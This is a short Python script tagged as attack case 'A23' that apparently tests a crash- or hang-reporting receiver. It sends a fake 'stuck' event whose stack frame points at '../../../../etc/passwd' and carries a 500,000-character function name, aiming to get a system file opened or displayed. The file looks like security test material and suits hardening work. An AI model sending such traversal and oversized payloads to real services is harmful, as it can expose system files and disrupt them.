# /// attack
# class = "A23"
# title = "says that it hangs in a file of its choice"
# hope = "a place may be opened, or shown, as it is sent"
# parts = ["inside"]
# ///
tried()
send({"event": "stuck", "frames": [{"file": "../../../../etc/passwd", "line": 1, "function": "x" * 500_000}]})
